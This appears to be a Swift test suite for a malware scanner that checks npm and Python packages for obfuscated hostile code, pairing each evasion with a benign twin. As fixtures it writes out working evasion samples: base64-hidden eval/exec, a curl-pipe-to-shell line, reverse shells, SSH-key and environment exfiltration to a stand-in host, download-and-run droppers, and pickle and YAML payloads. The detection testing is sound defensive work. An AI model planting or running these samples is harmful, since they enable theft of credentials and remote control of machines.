import Cryptography
import Screening
import TestSupport
import Testing

@testable import Analyzers

private let script = Base64.encode(Array("require('child_process').exec('id acme-box')".utf8))
private let module = Base64.encode(Array("import os; os.system('id acme-box')".utf8))
private let command = Base64.encode(Array("curl https://x.example/a | sh".utf8))
/// What a bundler embeds for a browser.
private let worker = Base64.encode(
    Array("self.onmessage = (e) => { const r = fetch(e.data); postMessage(r) }; function start() { return 1 }".utf8))
/// Text that is nothing but text.
private let prose = Base64.encode(Array("a box holds a book and a lamp, and nobody knows why".utf8))

private let handedOn: [Evasion] = [
    Evasion(
        "a map of functions", hostile: "const m = new Map([['a', eval]]); m.get('a')(atob('\(script)'))",
        benign: "const m = new Map([['a', eval]]); console.log(m.size, atob('\(prose)'))"),
    Evasion(
        "an event",
        hostile: "const e = new (require('events'))(); e.on('a', c => eval(c)); e.emit('a', atob('\(script)'))",
        benign: "const e = new (require('events'))(); e.on('a', c => eval('1')); e.emit('a', atob('\(prose)'))"),
    Evasion(
        "an exception", hostile: "try { throw atob('\(script)') } catch (e) { eval(e) }",
        benign: "try { throw atob('\(prose)') } catch (e) { new Function('return this')() }"),
    Evasion(
        "a generator", hostile: "function* g() { eval(yield) } const i = g(); i.next(); i.next(atob('\(script)'))",
        benign: "function* g() { eval('1') } const i = g(); i.next(); i.next(atob('\(prose)'))"),
    Evasion(
        "callbacks of promises", hostile: "Promise.resolve('\(script)').then(atob).then(eval)",
        benign: "Promise.resolve('\(prose)').then(atob).then(String); new Function('return this')()"),
    Evasion(
        "a getter", .suspicious,
        hostile:
            "const o = { get c() { return atob('\(command)') }, get r() { return require('child_process').exec } };"
            + "o.r(o.c)",
        benign: "const o = { get c() { return atob('\(prose)') }, get r() { return require('child_process').exec } }"),
    Evasion(
        "a proxy", hostile: "new Proxy(eval, {})(atob('\(script)'))", benign: "new Proxy(eval, {}); atob('\(prose)')"),
    Evasion(
        "with",
        hostile: "with (require('child_process')) { with (Buffer) { exec(from('\(command)', 'base64') + '') } }",
        benign: "with (require('child_process')) { with (Buffer) { from('\(prose)', 'base64') } }"),
    Evasion(
        "a text that nothing decodes in plain sight", hostile: "run('\(script)'); self.eval(window.x)",
        benign: "const w = new Blob([atob('\(worker)')]); new Function('return this')()"),
    Evasion(
        "a method that compiles modules",
        hostile: "const m = new module.constructor(); m._compile(Buffer.from('\(script)', 'base64').toString(), 'x')",
        benign: "const m = new module.constructor(); m.load(Buffer.from('\(prose)', 'base64').toString())"),
    Evasion(
        "a function that reads itself",
        hostile: "function f() { /*\(script)*/ } eval(atob(f.toString().slice(17, -3)))",
        benign: "function f() { /*\(prose)*/ } console.log(atob(f.toString().slice(17, -3)))"),
    Evasion(
        "a file that reads itself",
        hostile: "const t = require('fs').readFileSync(__filename, 'utf8'); eval(atob(t.split('~')[1])) //~\(script)~",
        benign: "const t = require('fs').readFileSync(__filename, 'utf8'); log(atob(t.split('~')[1])) //~\(prose)~"),
    Evasion(
        "a decoder in another file", .suspicious, hostile: "require('./run')(require('./text'))",
        benign: "exports.run = require('./run')",
        files: ["run.js": "module.exports = (text) => eval(atob(text))\n", "text.js": "module.exports = 'abc'\n"]),
    Evasion(
        "a file that is named by the same expression", .suspicious,
        hostile: """
            const fs = require('fs'), https = require('https'), cp = require('child_process'), os = require('os')
            const f = fs.createWriteStream(os.tmpdir() + '/u')
            https.get('https://x.example/u', r => { r.pipe(f); f.on('finish', () => cp.spawn(os.tmpdir() + '/u')) })
            """,
        benign: """
            const fs = require('fs'), https = require('https'), cp = require('child_process'), os = require('os')
            const f = fs.createWriteStream(os.tmpdir() + '/u')
            https.get('https://x.example/u', r => { r.pipe(f); f.on('finish', () => cp.spawn(os.homedir() + '/v')) })
            """),
    Evasion(
        "one of several shells",
        hostile: "const s = require('tls').connect(443, 'x.example'); const p = require('child_process')"
            + ".spawn(process.env.ComSpec || '/bin/bash'); s.pipe(p.stdin); p.stdout.pipe(s)",
        benign: "const s = require('tls').connect(443, 'x.example'); const p = require('child_process')"
            + ".spawn(process.env.PAGER || 'less'); s.pipe(process.stdout)"),
    Evasion(
        "a key in a request",
        hostile: "const fs = require('fs'); fetch('https://x.example/k', { method: 'POST', "
            + "body: fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8') })",
        benign: "const fs = require('fs'); fetch('https://x.example/k', { method: 'POST', "
            + "body: fs.readFileSync('./box.json', 'utf8') })"),
    Evasion(
        "the environment in a request",
        hostile: "require('https').request({ host: 'x.example', method: 'POST' }).end(JSON.stringify(process.env))",
        benign: "require('https').request({ host: 'x.example', method: 'POST' }).end(JSON.stringify({ a: 1 }))"),
]

private let handedOnInPython: [Evasion] = [
    Evasion(
        "a pattern",
        hostile: "import base64\nmatch (exec, '\(module)'):\n    case (f, s):\n        f(base64.b64decode(s))\n",
        benign: "import base64\nmatch (print, '\(prose)'):\n    case (f, s):\n        f(s)\nexec('a = 1')\n"),
    Evasion(
        "an exception",
        hostile: "import base64\ntry:\n    raise ValueError(base64.b64decode('\(module)'))\n"
            + "except ValueError as e:\n    exec(e.args[0])\n",
        benign: "import base64\ntry:\n    raise ValueError(base64.b64decode('\(prose)'))\n"
            + "except ValueError as e:\n    exec('a = 1')\n"),
    Evasion(
        "a timer",
        hostile:
            "import threading, base64\nthreading.Timer(9, exec, [base64.b64decode('\(module)').decode()]).start()\n",
        benign: "import threading, base64\nthreading.Timer(9, print, [base64.b64decode('\(prose)').decode()]).start()\n"
    ),
    Evasion(
        "an attribute",
        hostile:
            "import base64\nclass O: pass\nsetattr(O, 'r', staticmethod(exec))\nO.r(base64.b64decode('\(module)'))\n",
        benign:
            "import base64\nclass O: pass\nsetattr(O, 'r', staticmethod(print))\nO.r(base64.b64decode('\(module)'))\n"
    ),
    Evasion(
        "a function that is called on the spot",
        hostile: "import zlib\n(lambda d: exec(zlib.decompress(d[::-1])))(b'x9cK,J,V(JM and some more of it')\n",
        benign: "import zlib\n(lambda d: print(zlib.decompress(d[::-1])))(b'x9cK,J,V(JM and some more of it')\n"),
    Evasion(
        "its own documentation", hostile: "\"\"\"\(module)\"\"\"\nimport base64\nexec(base64.b64decode(__doc__))\n",
        benign: "\"\"\"\(prose)\"\"\"\nimport base64\nprint(base64.b64decode(__doc__))\n"),
    Evasion(
        "a pickle", hostile: "import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'id'\\ntR.\")\n",
        benign: "import pickle\npickle.loads(b\"ccollections\\nOrderedDict\\n(tR.\")\n"),
    Evasion(
        "a newer pickle",
        hostile:
            "import pickle\npickle.loads(b'\\x80\\x04\\x95\\x8c\\x05posix\\x94\\x8c\\x06system\\x94\\x93\\x94.')\n",
        benign: "import pickle\npickle.loads(b'\\x80\\x04\\x95\\x8c\\x08builtins\\x94\\x8c\\x03set\\x94\\x93\\x94.')\n"),
    Evasion(
        "an object that says how it is made",
        hostile: "import pickle, os\nclass R:\n    def __reduce__(self): return (os.system, ('id',))\n"
            + "pickle.loads(pickle.dumps(R()))\n",
        benign: "import pickle, os\nclass R:\n    def __reduce__(self): return (R, ())\n"
            + "pickle.loads(pickle.dumps(R()))\n"),
    Evasion(
        "YAML", hostile: "import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [\"id\"]')\n",
        benign: "import yaml\nyaml.unsafe_load('!!python/object/apply:box.Box [1]')\n"),
    Evasion(
        "a file that a parameter names",
        hostile: """
            import os, subprocess, urllib.request
            def go(p):
                os.chmod(p, 0o770)
                subprocess.Popen([p, '-u'])
            urllib.request.urlretrieve('https://x.example/run', '/tmp/box_runner')
            go('/tmp/box_runner')

            """,
        benign: """
            import os, subprocess, urllib.request
            def go(p):
                subprocess.Popen([p, '-u'])
            urllib.request.urlretrieve('https://x.example/run', '/tmp/box_data')
            go('ls')

            """),
    Evasion(
        "a module made of a downloaded file",
        hostile: """
            import importlib.util, urllib.request
            open('/tmp/z.py', 'wb').write(urllib.request.urlopen('https://x.example/a').read())
            s = importlib.util.spec_from_file_location('z', '/tmp/z.py')

            """,
        benign: """
            import importlib.util, urllib.request
            open('/tmp/z.csv', 'wb').write(urllib.request.urlopen('https://x.example/a').read())
            s = importlib.util.spec_from_file_location('y', 'plugins/y.py')

            """),
    Evasion(
        "commands that come over a stream",
        hostile: """
            import asyncio
            async def main():
                r, w = await asyncio.open_connection('192.0.2.3', 443)
                while True:
                    c = (await r.readline()).decode()
                    p = await asyncio.create_subprocess_shell(c, stdout=-1)
                    w.write((await p.communicate())[0])
            asyncio.run(main())

            """,
        benign: """
            import asyncio
            async def main():
                r, w = await asyncio.open_connection('box.x.example', 443)
                print((await r.readline()).decode())
                p = await asyncio.create_subprocess_shell('ls', stdout=-1)
            asyncio.run(main())

            """),
]

@Suite("Programs that are handed on by ways nobody follows")
struct HandedOnTests {
    private func judge(_ evasion: Evasion, _ make: (String) throws -> Artifact) throws {
        let found = try make(evasion.hostile).report().findings
        #expect(found.map(\.finding.severity).max() ?? .info >= evasion.severity, "\(found.map(\.finding.evidence))")
        let harmless = try make(evasion.benign).report()
        let held = harmless.findings.filter { $0.finding.severity != .info }
        #expect(harmless.verdict == .clean, "\(held.map(\.finding))")
    }

    @Test("scripts", arguments: handedOn)
    func scripts(_ evasion: Evasion) throws {
        try judge(evasion) { code in
            try npmCode(code) { tar in
                for (path, text) in evasion.files.sorted(by: { $0.key < $1.key }) {
                    tar.addFile("package/\(path)", text)
                }
            }
        }
    }

    @Test("Python", arguments: handedOnInPython)
    func python(_ evasion: Evasion) throws { try judge(evasion) { try wheelCode($0) } }

    @Test("many hidden programs are one finding")
    func many() throws {
        let code = (0..<500).map { "f[\($0)](atob('\(script)'), g\($0)); eval(h\($0))\n" }.joined()
        let notes = try npmCode(code).report().findings.filter { $0.finding.evidence == "hidden-program@import" }
        #expect(notes.count == 1)
    }
}
